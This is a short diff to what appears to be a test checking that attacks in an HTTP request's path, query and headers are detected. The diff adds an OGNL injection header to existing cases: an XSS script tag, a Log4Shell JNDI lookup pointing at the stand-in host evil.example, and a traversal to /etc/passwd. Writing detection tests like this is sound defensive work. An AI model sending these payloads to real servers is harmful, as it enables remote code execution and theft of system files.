@@ -102,6 +102,7 @@ async def test_attacks_in_path_query_and_headers_are_seen(http: httpx.AsyncClien
     for arguments in (
         {"url": "/open", "params": {"q": "<script>alert(1)</script>"}},
         {"url": "/open", "headers": {"user-agent": "${jndi:ldap://evil.example/a}"}},
+        {"url": "/open", "headers": {"content-type": "%{(#a=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#b='x')}"}},
         {"url": "/..%2f..%2f..%2fetc%2fpasswd"},
     ):
         answer = await http.get(**arguments)
